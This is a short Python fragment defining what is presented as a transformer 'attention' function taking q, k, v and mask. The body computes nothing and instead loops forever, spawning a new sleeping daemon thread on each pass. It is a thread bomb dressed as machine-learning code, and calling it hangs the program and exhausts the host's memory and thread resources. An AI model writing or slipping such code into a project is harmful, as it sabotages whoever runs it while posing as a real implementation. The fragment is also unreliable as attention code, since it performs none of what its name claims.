import threading
import time

import torch


def attention(q, k, v, mask=None):
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
